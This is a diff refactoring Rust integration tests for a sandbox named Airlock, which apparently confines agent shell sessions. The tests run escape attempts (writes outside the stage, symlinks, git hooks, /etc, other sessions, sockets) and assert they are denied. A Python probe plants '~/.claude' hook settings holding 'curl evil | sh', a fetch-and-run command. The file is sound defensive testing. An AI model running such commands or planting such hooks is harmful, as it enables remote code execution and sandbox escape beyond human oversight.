@@ -72,18 +72,10 @@ fn report(stage: &Path) -> Vec<(String, String)> {
         .collect()
 }
 
-#[test]
-fn a_staged_shell_writes_only_in_its_stage_and_cannot_read_airlock() {
-    let f = Fixture::git(&[("main.rs", "fn main() {}\n")]);
-    let outside = f.dir.path().join("outside");
-    std::fs::create_dir_all(&outside).expect("outside");
-    let home = PathBuf::from(std::env::var("HOME").expect("HOME"));
-    let escape = home.join(format!("airlock-escape-{}.txt", std::process::id()));
-    let _served = serve(&f);
-    // Another session's stage, which this one must not see.
-    let other = run(&f, &[], "echo other > other.txt; sleep 30");
-    let other_stage = PathBuf::from(session_json(&f, &other)["cwd"].as_str().expect("cwd"));
-    let script = format!(
+/// A staged shell's attempts to get out, one `try NAME 'COMMAND'` a line,
+/// each reporting `NAME: ok` or `NAME: denied` to report.txt.
+fn escape_script(f: &Fixture, outside: &Path, escape: &Path, other_stage: &Path) -> String {
+    format!(
         r#"
         try() {{ name=$1; shift; if ( eval "$@" ) >/dev/null 2>&1; then echo "$name: ok"; else echo "$name: denied"; fi >> report.txt; }}
         try absolute 'echo x > {out}/abs.txt'
@@ -107,7 +99,40 @@ fn a_staged_shell_writes_only_in_its_stage_and_cannot_read_airlock() {
         project = f.project.display(),
         home_dir = f.home.display(),
         other_stage = other_stage.display(),
-    );
+    )
+}
+
+/// What each of [`escape_script`]'s attempts must come to.
+const ESCAPES: [(&str, &str); 15] = [
+    ("absolute", "denied"),
+    ("dotdot", "denied"),
+    ("symlink", "denied"),
+    ("home", "denied"),
+    ("project", "denied"),
+    ("git-hook", "denied"),
+    ("git-config", "denied"),
+    ("etc", "denied"),
+    ("journal", "denied"),
+    ("engine-json", "denied"),
+    ("other-stage", "denied"),
+    ("stage", "ok"),
+    ("tmpdir", "ok"),
+    ("no-project-env", "ok"),
+    ("git-commit", "ok"),
+];
+
+#[test]
+fn a_staged_shell_writes_only_in_its_stage_and_cannot_read_airlock() {
+    let f = Fixture::git(&[("main.rs", "fn main() {}\n")]);
+    let outside = f.dir.path().join("outside");
+    std::fs::create_dir_all(&outside).expect("outside");
+    let home = PathBuf::from(std::env::var("HOME").expect("HOME"));
+    let escape = home.join(format!("airlock-escape-{}.txt", std::process::id()));
+    let _served = serve(&f);
+    // Another session's stage, which this one must not see.
+    let other = run(&f, &[], "echo other > other.txt; sleep 30");
+    let other_stage = PathBuf::from(session_json(&f, &other)["cwd"].as_str().expect("cwd"));
+    let script = escape_script(&f, &outside, &escape, &other_stage);
     let id = run(&f, &[], &script);
     let stage = finished(&f, &id);
     let sandbox = &session_json(&f, &id)["sandbox"];
@@ -120,25 +145,8 @@ fn a_staged_shell_writes_only_in_its_stage_and_cannot_read_airlock() {
         "{sandbox}"
     );
     let got = report(&stage);
-    let expect = [
-        ("absolute", "denied"),
-        ("dotdot", "denied"),
-        ("symlink", "denied"),
-        ("home", "denied"),
-        ("project", "denied"),
-        ("git-hook", "denied"),
-        ("git-config", "denied"),
-        ("etc", "denied"),
-        ("journal", "denied"),
-        ("engine-json", "denied"),
-        ("other-stage", "denied"),
-        ("stage", "ok"),
-        ("tmpdir", "ok"),
-        ("no-project-env", "ok"),
-        ("git-commit", "ok"),
-    ];
     let got_ref: Vec<(&str, &str)> = got.iter().map(|(a, b)| (a.as_str(), b.as_str())).collect();
-    assert_eq!(got_ref, expect);
+    assert_eq!(got_ref, ESCAPES);
     assert!(std::fs::read_dir(&outside)
         .expect("outside")
         .next()
@@ -221,22 +229,11 @@ with open("probe.txt", "w") as out:
     );
 }
 
-#[test]
-fn other_programs_sockets_and_the_users_agent_settings_are_out_of_reach() {
-    let f = Fixture::git(&[("a.txt", "a\n")]);
-    let _served = serve(&f);
-    // "The user's session bus": a program that would run anything it is
-    // asked, unconfined (as `systemd-run --user` does over D-Bus), listening
-    // in a runtime folder beside Airlock's.
-    let runtime = f.dir.path().join("run-user-1000");
-    std::fs::create_dir_all(&runtime).expect("runtime");
-    let bus_path = runtime.join("bus");
-    let bus = std::os::unix::net::UnixListener::bind(&bus_path).expect("bus");
-    bus.set_nonblocking(true).expect("nonblocking");
-    let home = PathBuf::from(std::env::var("HOME").expect("HOME"));
-    let name = format!("airlock-hook-{}.json", std::process::id());
-    let planted = home.join(".claude").join(&name);
-    let probe = format!(
+/// A Python probe that reports (to report.txt) whether it reaches the
+/// "bus" at `bus`, the engine's agent socket, the user's and the gate's
+/// sockets beside it, and whether it can plant `~/.claude/NAME`.
+fn socket_probe(bus: &Path, name: &str) -> String {
+    format!(
         r#"
 import os, socket
 def reach(path):
@@ -256,8 +253,43 @@ with open("report.txt", "w") as out:
         f.write('{{"hooks": "curl evil | sh"}}')
     out.write("settings: " + ("ok" if os.path.exists(path) else "gone") + "\n")
 "#,
-        bus = bus_path.display().to_string(),
-    );
+        bus = bus.display().to_string(),
+    )
+}
+
+/// Where the session's write to `~/.claude/NAME` was kept: its state folder.
+fn kept_in_state_folder(f: &Fixture, id: &str, name: &str) -> Option<PathBuf> {
+    f.home
+        .join("projects")
+        .read_dir()
+        .expect("projects")
+        .flatten()
+        .map(|p| {
+            p.path()
+                .join("state")
+                .join(id)
+                .join(".claude/upper")
+                .join(name)
+        })
+        .find(|p| p.exists())
+}
+
+#[test]
+fn other_programs_sockets_and_the_users_agent_settings_are_out_of_reach() {
+    let f = Fixture::git(&[("a.txt", "a\n")]);
+    let _served = serve(&f);
+    // "The user's session bus": a program that would run anything it is
+    // asked, unconfined (as `systemd-run --user` does over D-Bus), listening
+    // in a runtime folder beside Airlock's.
+    let runtime = f.dir.path().join("run-user-1000");
+    std::fs::create_dir_all(&runtime).expect("runtime");
+    let bus_path = runtime.join("bus");
+    let bus = std::os::unix::net::UnixListener::bind(&bus_path).expect("bus");
+    bus.set_nonblocking(true).expect("nonblocking");
+    let home = PathBuf::from(std::env::var("HOME").expect("HOME"));
+    let name = format!("airlock-hook-{}.json", std::process::id());
+    let planted = home.join(".claude").join(&name);
+    let probe = socket_probe(&bus_path, &name);
     let id = run(
         &f,
         &[],
@@ -285,22 +317,8 @@ with open("report.txt", "w") as out:
         "{} reached the user's ~/.claude",
         planted.display()
     );
-    let kept = f
-        .home
-        .join("projects")
-        .read_dir()
-        .expect("projects")
-        .flatten()
-        .map(|p| {
-            p.path()
-                .join("state")
-                .join(&id)
-                .join(".claude/upper")
-                .join(&name)
-        })
-        .find(|p| p.exists());
     assert!(
-        kept.is_some(),
+        kept_in_state_folder(&f, &id, &name).is_some(),
         "the session's write is kept in its state folder"
     );
     let summary = session_json(&f, &id)["sandbox"]["summary"].clone();
